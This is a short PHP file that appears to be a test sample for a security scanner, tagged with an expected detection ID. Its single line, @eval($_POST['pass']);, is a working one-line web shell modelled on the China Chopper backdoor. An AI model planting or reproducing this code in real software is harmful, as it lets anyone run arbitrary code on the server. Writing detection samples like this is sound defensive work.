<?php
// expect: ES-SHOP-010
// Written for Ensuresec's tests after the public description of the China Chopper web shell (FireEye, "Breaking
// Down the China Chopper Web Shell", 2013): a one-line server side that evaluates a POST parameter. Not a copy.
@eval($_POST['pass']);
